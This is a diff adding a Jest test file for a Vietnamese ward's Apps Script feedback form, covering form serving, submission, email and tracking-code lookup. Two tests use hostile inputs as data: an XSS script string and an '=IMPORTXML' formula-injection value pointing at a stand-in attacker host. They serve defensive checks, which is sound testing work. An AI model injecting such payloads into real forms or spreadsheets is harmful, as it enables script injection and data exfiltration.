@@ -1,0 +1,165 @@
+/**
+ * The resident's path on the built script: page, submission, row, email, lookup.
+ */
+import { ADMIN, COMMITTEE, newBox, payload } from '../../sandbox/box';
+import type { FakeHtmlOutput } from '../../sandbox/fakes/script';
+
+function responses(sb: ReturnType<typeof newBox>) {
+  return sb.world.sheets.bound()!.getSheetByName('Góp ý')!;
+}
+
+describe('doGet', () => {
+  test('serves the form with the location named by ?loc, title and viewport set', () => {
+    const sb = newBox();
+    const out = sb.run<FakeHtmlOutput>('doGet', [{ parameter: { loc: 'KDC02' } }]).value;
+    expect(out.getTitle()).toBe('Hòm thư số góp ý – Phường Hòa Bình');
+    expect(out.metaTags).toContainEqual({ name: 'viewport', content: 'width=device-width, initial-scale=1' });
+    const boot = JSON.parse(/<script type="application\/json" id="boot">([\s\S]*?)<\/script>/.exec(out.getContent())![1]);
+    expect(boot.location).toEqual({ code: 'KDC02', name: 'Nhà văn hóa khu dân cư số 2' });
+    expect(boot.unknownLocation).toBe(false);
+    expect(boot.view).toBe('form');
+    expect(boot.categories).toContain('Vệ sinh môi trường');
+  });
+
+  test('an unknown location still serves the form with a notice flag, and query values are never echoed raw', () => {
+    const sb = newBox();
+    const evil = '"><script>alert(1)</script>';
+    const out = sb.run<FakeHtmlOutput>('doGet', [{ parameter: { loc: evil, track: evil } }]).value;
+    const html = out.getContent();
+    expect(html).not.toContain('<script>alert(1)');
+    const boot = JSON.parse(/id="boot">([\s\S]*?)<\/script>/.exec(html)![1]);
+    expect(boot.location).toBeNull();
+    expect(boot.unknownLocation).toBe(true);
+    expect(boot.track).toBe('');
+  });
+
+  test('?track= opens the lookup view with the cleaned code', () => {
+    const sb = newBox();
+    const out = sb.run<FakeHtmlOutput>('doGet', [{ parameter: { track: ' hb-7k3m9qx ' } }]).value;
+    const boot = JSON.parse(/id="boot">([\s\S]*?)<\/script>/.exec(out.getContent())![1]);
+    expect(boot.view).toBe('track');
+    expect(boot.track).toBe('HB-7K3M9QX');
+  });
+});
+
+describe('submitFeedback', () => {
+  test('one accepted opinion makes exactly one row, one committee email and a tracking code', () => {
+    const sb = newBox();
+    const p = payload({ name: 'Nguyễn Thị Hoa', phone: '0912 345 678', email: 'hoa@example.com', consent: true });
+    const res = sb.run<{ ok: boolean; trackingCode: string }>('submitFeedback', [p]).value;
+    expect(res.ok).toBe(true);
+    expect(res.trackingCode).toMatch(/^HB-[23456789ABCDEFGHJKMNPQRSTUVWXYZ]{7}$/);
+    const rows = responses(sb).getDataRange().getValues();
+    expect(rows).toHaveLength(2);
+    const [row] = rows.slice(1);
+    expect(row[0]).toBe(res.trackingCode);
+    expect(row[9]).toBe('0912345678');
+    expect(row[15]).toBe('đã gửi');
+    expect(row[17]).toBe('Mới');
+    expect(sb.world.gmail.sent).toHaveLength(1);
+    const mail = sb.world.gmail.sent[0];
+    expect(mail.to).toEqual([COMMITTEE]);
+    expect(mail.subject).toContain(res.trackingCode);
+    expect(mail.replyTo).toBe('hoa@example.com');
+    expect(mail.body).toContain('#gid=');
+  });
+
+  test('the same requestId never makes a second row', () => {
+    const sb = newBox();
+    const p = payload();
+    const a = sb.run<{ trackingCode: string }>('submitFeedback', [p]).value;
+    sb.world.script.cache.clear(); // even when the cache has forgotten it
+    const b = sb.run<{ trackingCode: string }>('submitFeedback', [p]).value;
+    expect(b.trackingCode).toBe(a.trackingCode);
+    expect(responses(sb).getLastRow()).toBe(2);
+    expect(sb.world.gmail.sent).toHaveLength(1);
+  });
+
+  test('user text that looks like a formula is stored as literal text', () => {
+    const sb = newBox();
+    const content = '=IMPORTXML("http://evil.example","//a") rác thải';
+    const res = sb.run<{ ok: boolean }>('submitFeedback', [payload({ content, name: '+Nguyễn', address: '@ngõ 5', consent: true })]).value;
+    expect(res.ok).toBe(true);
+    const sheet = responses(sb);
+    const formulas = sheet.getRange(2, 1, 1, 25).getFormulas()[0];
+    expect(formulas.every((f) => f === '')).toBe(true);
+    const values = sheet.getRange(2, 1, 1, 25).getValues()[0];
+    expect(values[7]).toBe(content);
+    expect(values[8]).toBe('+Nguyễn');
+    expect(values[11]).toBe('@ngõ 5');
+  });
+
+  test('bad input gets Vietnamese field messages and leaves no row', () => {
+    const sb = newBox();
+    const res = sb.run<{ ok: boolean; errors: { field?: string; message: string }[] }>('submitFeedback', [
+      payload({ content: 'ngắn', phone: '12345', name: 'An' }),
+    ]).value;
+    expect(res.ok).toBe(false);
+    const fields = res.errors.map((e) => e.field);
+    expect(fields).toEqual(expect.arrayContaining(['content', 'phone', 'consent']));
+    expect(responses(sb).getLastRow()).toBe(1);
+  });
+
+  test('a filled honeypot or a 2-second submission leaves no row and is counted in the log sheet', () => {
+    const sb = newBox();
+    const a = sb.run<{ ok: boolean }>('submitFeedback', [payload({ website: 'http://spam.example' })]).value;
+    const b = sb.run<{ ok: boolean }>('submitFeedback', [payload({ elapsedMs: 2000 })]).value;
+    expect(a.ok).toBe(false);
+    expect(b.ok).toBe(false);
+    expect(responses(sb).getLastRow()).toBe(1);
+    const log = sb.world.sheets.bound()!.getSheetByName('Nhật ký')!.getDataRange().getValues();
+    expect(log.map((r) => r[2]).join('\n')).toMatch(/honeypot[\s\S]*quá nhanh/);
+  });
+
+  test('non-object payloads never throw', () => {
+    const sb = newBox();
+    for (const p of [null, 42, 'x', [], [1, 2], true]) {
+      const res = sb.run<{ ok: boolean; errors: unknown[] }>('submitFeedback', [p]).value;
+      expect(res.ok).toBe(false);
+      expect(res.errors.length).toBeGreaterThan(0);
+    }
+  });
+
+  test('when Gmail fails the row is kept as "chờ gửi" and the trigger sends it later, once', () => {
+    const sb = newBox();
+    sb.world.gmail.exhaust();
+    const res = sb.run<{ ok: boolean; trackingCode: string }>('submitFeedback', [payload()]).value;
+    expect(res.ok).toBe(true);
+    expect(responses(sb).getRange(2, 16).getValue()).toBe('chờ gửi');
+    expect(sb.world.gmail.sent).toHaveLength(0);
+    sb.world.gmail.restore();
+    const [run] = sb.fireHandler('sendPendingEmails');
+    expect(run.value).toMatchObject({ sent: 1, pending: 0 });
+    sb.fireHandler('sendPendingEmails');
+    expect(sb.world.gmail.sent).toHaveLength(1);
+    expect(responses(sb).getRange(2, 16).getValue()).toBe('đã gửi');
+  });
+});
+
+describe('lookupFeedback', () => {
+  test('returns status and public reply, never personal data or content', () => {
+    const sb = newBox();
+    const p = payload({ name: 'Trần Văn Bình', phone: '0987654321', email: 'binh@example.com', address: 'Số 5 ngõ 7', consent: true });
+    const { trackingCode } = sb.run<{ trackingCode: string }>('submitFeedback', [p]).value;
+    responses(sb).getRange(2, 22).setValue('Đã cử cán bộ kiểm tra và thu gom rác.');
+    const res = sb.run('lookupFeedback', [trackingCode.toLowerCase()]).value as Record<string, unknown>;
+    expect(res).toMatchObject({ found: true, trackingCode, status: 'Mới', reply: 'Đã cử cán bộ kiểm tra và thu gom rác.' });
+    expect(res.receivedAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\+07:00$/);
+    const json = JSON.stringify(res);
+    for (const secret of ['Trần Văn Bình', '0987654321', 'binh@example.com', 'Số 5 ngõ 7', 'Rác thải']) {
+      expect(json).not.toContain(secret);
+    }
+  });
+
+  test('unknown and malformed codes are not found, with a message', () => {
+    const sb = newBox();
+    expect(sb.run('lookupFeedback', ['HB-2222222']).value).toMatchObject({ found: false });
+    expect(sb.run('lookupFeedback', ['<script>']).value).toMatchObject({ found: false, message: expect.stringContaining('Mã') });
+    expect(sb.run('lookupFeedback', [{ a: 1 }]).value).toMatchObject({ found: false });
+  });
+});
+
+test('the admin who ran setup is recorded', () => {
+  const sb = newBox();
+  expect(sb.world.script.properties.get('OWNER_EMAIL')).toBe(ADMIN);
+});
